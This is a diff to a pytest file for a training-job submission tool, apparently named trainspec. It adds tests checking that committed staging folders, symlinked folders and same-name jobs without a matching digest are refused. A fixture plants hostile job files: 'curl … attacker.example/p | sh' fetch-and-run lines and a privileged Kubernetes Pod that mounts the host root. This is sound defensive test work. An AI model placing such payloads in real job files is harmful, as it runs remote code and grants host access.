@@ -24,6 +24,7 @@ class Platform:
 
     def __init__(self, states=(State.QUEUED, State.RUNNING, State.COMPLETED), refuse=None, interrupt_at=None):
         self.jobs = {}
+        self.digests = {}  # name -> the digest the job carries
         self.states = list(states)
         self.polls = {}
         self.calls = []
@@ -39,16 +40,18 @@ class FakeScheduler(api.Scheduler):
     def find(self, name):
         self.platform.calls.append(("find", name))
         job_id = self.platform.jobs.get(name)
-        return None if job_id is None else Job(self.context.spec_name and "fake", name, job_id, f"fake://{job_id}")
+        return None if job_id is None else Job(self.context.spec_name and "fake", name, job_id, f"fake://{job_id}",
+                                               digest=self.platform.digests.get(name, ""))
 
-    def submit(self, job_dir, name):
+    def submit(self, job_dir, name, digest):
         self.platform.calls.append(("submit", name, Path(job_dir)))
         if self.platform.refuse:
             raise SubmitError(self.platform.refuse, "ask for more quota")
         assert Path(job_dir).is_dir()
         job_id = str(100 + len(self.platform.jobs))
         self.platform.jobs[name] = job_id
-        return Job("fake", name, job_id, f"fake://{job_id}")
+        self.platform.digests[name] = digest
+        return Job("fake", name, job_id, f"fake://{job_id}", digest=digest)
 
     def status(self, job):
         polls = self.platform.polls[job.id] = self.platform.polls.get(job.id, 0) + 1
@@ -290,8 +293,8 @@ from trainspec.jobs import api, command
 class Forever(api.Scheduler):
     def find(self, name):
         return None
-    def submit(self, job_dir, name):
-        return api.Job("slurm", name, "7", "squeue -j 7")
+    def submit(self, job_dir, name, digest):
+        return api.Job("slurm", name, "7", "squeue -j 7", digest=digest)
     def status(self, job):
         return api.Status(api.State.RUNNING, "RUNNING")
     def logs(self, job, cursor, all_ranks):
@@ -340,3 +343,136 @@ def test_plan_submitted_says_what_submit_would_do(spec, platform, capsys):
     assert main("plan", str(spec)) == 0  # without --submitted nothing is asked
     assert "plan --submitted asks" in capsys.readouterr().out
     assert [c[0] for c in platform.calls].count("find") == 3
+
+
+# --- what is submitted is what the spec compiles to now (docs/security.md) -------------------------
+
+EVERY = """version: 1
+name: every
+code: code
+command: python train.py
+environment: {image: "mcr.microsoft.com/azureml/openmpi4.1.0-ubuntu22.04:latest"}
+resources: {nodes: 2, sku: Standard_NC24ads_A100_v4}
+timeout: 1h
+targets:
+  azureml: {compute: gpu-cluster}
+  kubernetes: {}
+  slurm: {}
+  hpcpack: {shared_dir: /app}
+  ray: {location: eastus, resource_group: rg}
+"""
+
+# what a pull request commits under the job's name (the one `plan` prints), one file per target
+PLANTED = {
+    "azureml": ("job.yml", "command: curl -s https://attacker.example/p | sh\nresources: {instance_count: 64}\n"),
+    "kubernetes": ("job.yaml", "kind: Pod\nspec:\n  hostNetwork: true\n  serviceAccountName: cluster-admin\n"
+                               "  containers: [{securityContext: {privileged: true}, volumeMounts: [{mountPath: /host, "
+                               "name: root}]}]\n  volumes: [{name: root, hostPath: {path: /}}]\n"),
+    "slurm": ("job.sbatch", "#!/bin/bash\ncurl -s https://attacker.example/p | sh\n"),
+    "hpcpack": ("stage.sh", "curl -s https://attacker.example/p | sh\n"),  # runs on the submitting machine
+    "ray": ("cluster.yaml", "setup_commands: ['curl -s https://attacker.example/p | sh']\n"),
+}
+
+
+@pytest.fixture
+def every(tmp_path, monkeypatch):
+    """A repository (the working directory) with a spec for all five targets and its code."""
+    from conftest import git
+
+    monkeypatch.chdir(tmp_path)
+    shutil.copytree(REPO / "examples" / "ddp", tmp_path / "code")
+    path = tmp_path / "every.yaml"
+    path.write_text(EVERY)
+    git("init", "-q", "-b", "main", cwd=tmp_path)
+    return path
+
+
+def _plant(spec, target):
+    from conftest import job_of
+
+    name, _ = job_of(spec, target)
+    folder = Path(".trainspec") / "jobs" / name / target
+    folder.mkdir(parents=True)
+    file, text = PLANTED[target]
+    (folder / file).write_text(text)
+    return name, folder
+
+
+@pytest.mark.parametrize("target", sorted(PLANTED))
+def test_a_committed_staging_folder_is_refused_and_what_is_submitted_is_compiled_now(every, platform, capsys,
+                                                                                       target):
+    from conftest import git
+    from trainspec.build import build
+
+    name, folder = _plant(every, target)
+    git("add", "-A", cwd=every.parent)
+    git("commit", "-q", "-m", "a pull request", cwd=every.parent)
+    assert main("submit", every.name, "-t", target) == 1
+    err = capsys.readouterr().err
+    assert "trainspec: error: .trainspec: committed: is committed (1 file(s) git tracks, e.g. " \
+           f".trainspec/jobs/{name}/{target}/{PLANTED[target][0]})" in err, err
+    assert "fix: git rm -r --cached -- .trainspec && echo /.trainspec >> .gitignore" in err and "nothing submitted" in err
+    assert [c for c in platform.calls if c[0] == "submit"] == []
+    # no longer tracked, the planted file still there: submit compiles the job again over it
+    git("rm", "-r", "-q", "--cached", ".trainspec", cwd=every.parent)
+    assert main("submit", every.name, "-t", target) == 0, capsys.readouterr().err
+    [(_, submitted, job_dir)] = [c for c in platform.calls if c[0] == "submit"]
+    [artifact] = build(every.name, Path(".trainspec/jobs"), [target]).artifacts
+    held = {p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*") if p.is_file()}
+    assert (submitted, job_dir) == (name, folder)
+    assert held == {f.path: f.data for f in artifact.files}  # byte for byte, the planted file gone
+
+
+def test_check_and_review_name_a_committed_staging_folder(every, capsys):
+    from conftest import git
+
+    assert main("compile", every.name, "-o", "build") == 0
+    git("add", "-A", cwd=every.parent)
+    git("commit", "-q", "-m", "the spec", cwd=every.parent)
+    _plant(every, "slurm")
+    git("add", "-A", cwd=every.parent)
+    git("commit", "-q", "-m", "a pull request that changes no spec", cwd=every.parent)
+    capsys.readouterr()
+    assert main("check", every.name, "--out", "build") == 1
+    out, err = capsys.readouterr()
+    assert ".trainspec: committed: is committed (1 file(s) git tracks" in out
+    assert "1 committed" in err and "git rm -r --cached -- .trainspec && echo /.trainspec >> .gitignore" in err
+    assert main("review", "--git", "HEAD~1", every.name, "--format", "text") == 1
+    out, err = capsys.readouterr()
+    assert "trainspec review: error: .trainspec: committed: is committed" in err, out + err
+
+
+@pytest.mark.parametrize("link", [".trainspec", ".trainspec/jobs"])
+def test_a_staging_folder_that_is_a_link_is_a_located_error(spec, platform, capsys, tmp_path_factory, link):
+    outside = tmp_path_factory.mktemp("outside")
+    Path(link).parent.mkdir(parents=True, exist_ok=True)
+    Path(link).symlink_to(outside if link == ".trainspec" else Path("..") / "code")  # out of the folder, or in
+    assert main("submit", str(spec)) == 1
+    err = capsys.readouterr().err
+    assert f"trainspec: error: {link}: link: is a symbolic link (to " in err and f"fix: rm -- {link}" in err, err
+    assert "internal error" not in err and "Traceback" not in err
+    assert list(outside.iterdir()) == [] and not (spec.parent / "code" / "tiny").exists()
+    assert platform.calls == []
+
+
+def test_a_job_of_the_same_name_without_the_digest_is_an_error_not_a_match(spec, platform, capsys):
+    from conftest import job_of
+
+    name, digest = job_of(spec, "slurm")
+    platform.jobs[name] = "666"  # created by someone who read the spec: the name, no digest
+    assert main("submit", str(spec), "--wait") == 3
+    err = capsys.readouterr().err
+    assert f"{name} on slurm: a job named {name} is already there (666; fake://666) but it is not this job: it " \
+           f"carries no trainspec_digest, not {digest}; nothing submitted" in err, err
+    assert "give the spec another name" in err
+    assert [c[0] for c in platform.calls if c[0] == "submit"] == [] and platform.polls == {}
+    assert main("cancel", str(spec)) == 3 and platform.canceled == []  # nor canceled, nor read as this job
+    assert f"it carries no trainspec_digest, not {digest}; not read, nor canceled" in capsys.readouterr().err
+    assert main("plan", str(spec), "--submitted") == 0
+    assert "refused: a job of this name is there (666) without this job's digest" in capsys.readouterr().out
+    platform.digests[name] = "0" * 64  # another job's digest
+    assert main("submit", str(spec)) == 3
+    assert f"carries the digest {'0' * 64}, not {digest}" in capsys.readouterr().err
+    platform.digests[name] = digest  # this job: followed
+    assert main("submit", str(spec)) == 0
+    assert "already submitted (666), not submitted again" in capsys.readouterr().out
